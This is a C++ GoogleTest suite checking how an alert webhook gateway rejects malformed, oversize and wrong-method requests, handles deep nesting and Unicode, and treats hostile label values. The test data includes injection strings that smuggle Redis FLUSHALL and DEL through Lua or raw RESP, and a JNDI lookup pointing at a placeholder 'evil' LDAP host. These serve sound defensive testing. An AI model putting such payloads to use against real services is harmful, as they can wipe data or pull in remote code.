// Malformed, oversize and hostile payloads (GATEWAY.md "Answers"): 400 with a reason a person can
// act on, 413 over the body limit, 405 for a wrong method; hostile-looking label values are data,
// never code or protocol (the atomic step is a Lua script, the keys are hashed).
#include <gtest/gtest.h>

#include <string>

#include "payloads.h"
#include "redis_footprint.h"
#include "scenario_support.h"

namespace gateway_scenarios {
namespace {

using signal_gateway::RejectReason;

class PayloadValidation : public GatewayScenario {
 protected:
  static std::string ErrorOf(const HttpAnswer& answer) {
    const auto body = answer.Json();
    return body.is_object() && body.contains("error") && body["error"].is_string()
               ? body["error"].get<std::string>()
               : std::string();
  }
  // After any hostile request the gateway must still be healthy and still serve signals.
  void ExpectStillServing(ScenarioGateway& gateway) {
    EXPECT_EQ(gateway.Get("/health").status, 200);
    const HttpAnswer answer = gateway.PostAlerts(Webhook(PodAlert("Canary", "prod-api", "canary")));
    EXPECT_EQ(answer.status, 201) << answer;
  }
};

struct Malformed {
  const char* name;
  std::string body;
  const char* error_mentions;
};

void PrintTo(const Malformed& c, std::ostream* out) { *out << c.name; }

class MalformedWebhook : public PayloadValidation,
                         public ::testing::WithParamInterface<Malformed> {};

TEST_P(MalformedWebhook, Is400WithAnActionableReasonAndStoresNothing) {
  auto& gateway = Start();
  const HttpAnswer answer = gateway.Post(kPrometheusPath, GetParam().body);
  EXPECT_EQ(answer.status, 400) << answer;
  EXPECT_NE(ErrorOf(answer).find(GetParam().error_mentions), std::string::npos) << answer;
  EXPECT_EQ(DatabaseSize(redis()), 0);
  EXPECT_EQ(gateway.metrics().rejected(RejectReason::kInvalidPayload), 1U);
}
INSTANTIATE_TEST_SUITE_P(
    Bodies, MalformedWebhook,
    ::testing::Values(
        Malformed{"NotJson", "alerts: [firing]", "JSON"}, Malformed{"Empty", "", "JSON"},
        Malformed{"Truncated", R"({"version":"4","alerts":[{"labels":{"alertname":"X")", "JSON"},
        Malformed{"TopLevelArray", R"([{"labels":{"alertname":"X"}}])", "object"},
        Malformed{"Null", "null", "object"}, Malformed{"NoAlerts", R"({"version":"4"})", "alerts"},
        Malformed{"EmptyAlerts", R"({"version":"4","alerts":[]})", "alerts"},
        Malformed{"AlertsNotArray", R"({"alerts":{"labels":{"alertname":"X"}}})", "alerts"},
        Malformed{"AlertNotObject", R"({"alerts":["HighCPUUsage"]})", "alerts[0]"},
        Malformed{"LabelsNotObject", R"({"alerts":[{"labels":["alertname","X"]}]})", "labels"},
        Malformed{"AlertnameNotString", R"({"alerts":[{"labels":{"alertname":42}}]})", "alertname"},
        Malformed{"AlertnameEmpty", R"({"alerts":[{"labels":{"alertname":""}}]})", "alertname"},
        Malformed{"UnknownStatus",
                  R"({"alerts":[{"status":"pending","labels":{"alertname":"X"}}]})", "status"},
        Malformed{"InvalidUtf8", "{\"alerts\":[{\"labels\":{\"alertname\":\"\xff\xfe\"}}]}",
                  "JSON"},
        Malformed{"NulByte", std::string("{\"alerts\":[\0]}", 14), "JSON"}),
    [](const auto& param_info) { return std::string(param_info.param.name); });

TEST_F(PayloadValidation, ABodyOverTheLimitIs413AndStoresNothing) {
  auto& gateway = Start();
  std::vector<nlohmann::json> alerts;
  for (std::size_t size = 0; size <= 101 * 1024;) {
    alerts.push_back(PodAlert("HighCPUUsage", "prod-api", "api-" + std::to_string(alerts.size())));
    size += alerts.back().dump().size() + 1;
  }
  ASSERT_GT(Webhook(alerts).dump().size(), gateway.config().body_limit);
  const HttpAnswer answer = gateway.PostAlerts(Webhook(alerts));
  ASSERT_EQ(answer.status, 413) << answer;
  EXPECT_FALSE(ErrorOf(answer).empty()) << answer;
  EXPECT_EQ(DatabaseSize(redis()), 0);
  EXPECT_EQ(gateway.metrics().rejected(RejectReason::kPayloadTooLarge), 1U);
  ExpectStillServing(gateway);
}

TEST_F(PayloadValidation, TheBodyLimitIsConfigurable) {
  auto config = ScenarioConfig();
  config.body_limit = 2048;
  auto& gateway = Start(config);
  const auto small = Webhook(PodAlerts("HighCPUUsage", "prod-api", 1, 3));
  const auto large = Webhook(PodAlerts("HighCPUUsage", "prod-api", 1, 12));
  ASSERT_LT(small.dump().size(), 2048U);
  ASSERT_GT(large.dump().size(), 2048U);
  EXPECT_EQ(gateway.PostAlerts(large).status, 413);
  EXPECT_EQ(gateway.PostAlerts(small).status, 201);
}

TEST_F(PayloadValidation, AWrongMethodIs405WithAllow) {
  auto& gateway = Start();
  const HttpAnswer get = gateway.Get(kPrometheusPath);
  EXPECT_EQ(get.status, 405) << get;
  EXPECT_EQ(get.Header("Allow"), "POST");
  const HttpAnswer put = gateway.Send("PUT", kEventPath, "{}");
  EXPECT_EQ(put.status, 405) << put;
  const HttpAnswer post_health = gateway.Post("/health", "{}");
  EXPECT_EQ(post_health.status, 405) << post_health;
  EXPECT_EQ(post_health.Header("Allow"), "GET, HEAD");
  EXPECT_EQ(gateway.metrics().rejected(RejectReason::kMethodNotAllowed), 3U);
}

TEST_F(PayloadValidation, AnUnknownRouteIs404) {
  auto& gateway = Start();
  const HttpAnswer answer = gateway.Post("/api/v1/signals/nagios", "{}");
  EXPECT_EQ(answer.status, 404) << answer;
}

TEST_F(PayloadValidation, DeepNestingInsideAnAlertIsSurvived) {
  auto& gateway = Start();
  const int depth = 40'000;  // ~80 KB of brackets: under the body limit
  std::string nested = std::string(depth, '[') + std::string(depth, ']');
  const std::string body = R"({"version":"4","alerts":[{"labels":{"alertname":"Deep","pod":"a"},)"
                           R"("annotations":{"summary":"deep"},"extra":)" +
                           nested + "}]}";
  const HttpAnswer answer = gateway.Post(kPrometheusPath, body);
  EXPECT_TRUE(answer.status == 201 || answer.status == 400) << answer;
  ExpectStillServing(gateway);
}

TEST_F(PayloadValidation, DeepNestingAtTheTopIs400) {
  auto& gateway = Start();
  const int depth = 50'000;
  const HttpAnswer answer =
      gateway.Post(kPrometheusPath, std::string(depth, '[') + std::string(depth, ']'));
  EXPECT_EQ(answer.status, 400) << answer;
  ExpectStillServing(gateway);
}

TEST_F(PayloadValidation, AHugeAnnotationIsNotStoredInRedis) {
  auto& gateway = Start();
  auto alert = PodAlert("HighCPUUsage", "prod-api", "api-1");
  alert["annotations"]["description"] = std::string(90 * 1024, 'x');
  const HttpAnswer answer = gateway.PostAlerts(Webhook(alert));
  ASSERT_EQ(answer.status, 201) << answer;
  const auto footprint = MeasureFootprint(redis(), "gateway:dedup:*");
  ASSERT_EQ(footprint.keys.size(), 1U);
  EXPECT_LE(footprint.TotalBytes(), kDedupEntryBudget) << footprint.Summary();
}

TEST_F(PayloadValidation, AHugeLabelValueKeepsTheKeysFixedLength) {
  auto& gateway = Start();
  const std::string pod(60 * 1024, 'p');
  const HttpAnswer answer = gateway.PostAlerts(Webhook(PodAlert("HighCPUUsage", "prod-api", pod)));
  ASSERT_EQ(answer.status, 201) << answer;
  EXPECT_EQ(answer.Result(0)["fingerprint"],
            ExpectedFingerprint("HighCPUUsage", "prod-api", "Pod", pod));
  const auto footprint = MeasureFootprint(redis(), "gateway:dedup:*");
  ASSERT_EQ(footprint.keys.size(), 1U);
  EXPECT_LT(footprint.keys[0].key.size(), 128U) << "label values must not end up in key names";
  EXPECT_LE(footprint.keys[0].bytes, kDedupEntryBudget);
}

TEST_F(PayloadValidation, UnicodeLabelsRoundTripByteForByte) {
  auto& gateway = Start();
  const std::string alertname = "Überlast 🔥";
  const std::string ns = "prod-日本";
  const std::string pod = "pod-ünïcödé-✓";
  const HttpAnswer answer = gateway.PostAlerts(Webhook(PodAlert(alertname, ns, pod)));
  ASSERT_EQ(answer.status, 201) << answer;
  EXPECT_EQ(answer.Result(0)["alertname"], alertname);
  EXPECT_EQ(answer.Result(0)["namespace"], ns);
  EXPECT_EQ(answer.Result(0)["fingerprint"], ExpectedFingerprint(alertname, ns, "Pod", pod));
  const auto requests = gateway.sink().Requests();
  ASSERT_EQ(requests.size(), 1U);
  EXPECT_EQ(requests[0].resource.name, pod);
  EXPECT_EQ(gateway.PostAlerts(Webhook(PodAlert(alertname, ns, pod))).Result(0)["status"],
            "duplicate");
}

// Values that look like code or protocol to a careless gateway: Lua, Redis commands, RESP, hash
// tags, globs, format strings. Each is used as alertname, namespace and pod at once.
struct Hostile {
  const char* name;
  std::string value;
};
// Only the name: the values would break test discovery (CMake lists choke on brackets).
void PrintTo(const Hostile& c, std::ostream* out) { *out << c.name; }

class HostileLabel : public PayloadValidation, public ::testing::WithParamInterface<Hostile> {};

TEST_P(HostileLabel, IsStoredAsPlainData) {
  const std::string& value = GetParam().value;
  redis().Command({"SET", "sentinel:untouched", "1", "EX", "30"});
  auto& gateway = Start();
  const auto alert = PodAlert(value, value, value);
  const HttpAnswer answer = gateway.PostAlerts(Webhook(std::vector<nlohmann::json>{alert, alert}));
  ASSERT_EQ(answer.status, 201) << answer;
  EXPECT_EQ(answer.Result(0)["status"], "created") << answer;
  EXPECT_EQ(answer.Result(1)["status"], "duplicate") << answer;
  EXPECT_EQ(answer.Result(0)["fingerprint"], ExpectedFingerprint(value, value, "Pod", value));
  EXPECT_EQ(redis().Command({"GET", "sentinel:untouched"}).AsOptionalString(), "1")
      << "the label reached Redis as a command";
  EXPECT_EQ(DatabaseSize(redis()), 3) << "sentinel + one dedup entry + one window counter";
  const auto requests = gateway.sink().Requests();
  ASSERT_EQ(requests.size(), 1U);
  EXPECT_EQ(requests[0].alertname, value);
  EXPECT_EQ(requests[0].resource.name, value);
  redis().Command({"DEL", "sentinel:untouched"});
}
INSTANTIATE_TEST_SUITE_P(
    Values, HostileLabel,
    ::testing::Values(Hostile{"SqlLike", "x'; FLUSHALL; --"},
                      Hostile{"LuaCall", "\") redis.call('FLUSHALL') --"},
                      Hostile{"LuaLongBracket", "]]..redis.call('DEL',KEYS[1])..[["},
                      Hostile{"HashTag", "{evil}:{tag}"}, Hostile{"Glob", "*?[a-z]\\"},
                      Hostile{"Resp", "\r\n*1\r\n$8\r\nFLUSHALL\r\n"},
                      Hostile{"FormatString", "%s%n%x%d{}"},
                      Hostile{"NulByte", std::string("api\0evil", 8)},
                      Hostile{"Separator", "a:b:c/d"}, Hostile{"Jndi", "${jndi:ldap://evil/x}"}),
    [](const auto& param_info) { return std::string(param_info.param.name); });

TEST_F(PayloadValidation, UnknownFieldsAreIgnored) {
  auto& gateway = Start();
  auto alert = PodAlert("HighCPUUsage", "prod-api", "api-1");
  alert["fingerprint"] = "0123456789abcdef";  // AlertManager's own, not ours
  alert["silencedBy"] = nlohmann::json::array();
  auto webhook = Webhook(alert);
  webhook["truncatedAlerts"] = 0;
  webhook["commonLabels"] = {{"team", "api"}};
  const HttpAnswer answer = gateway.PostAlerts(webhook);
  ASSERT_EQ(answer.status, 201) << answer;
  EXPECT_EQ(answer.Result(0)["fingerprint"],
            ExpectedFingerprint("HighCPUUsage", "prod-api", "Pod", "api-1"));
}

}  // namespace
}  // namespace gateway_scenarios
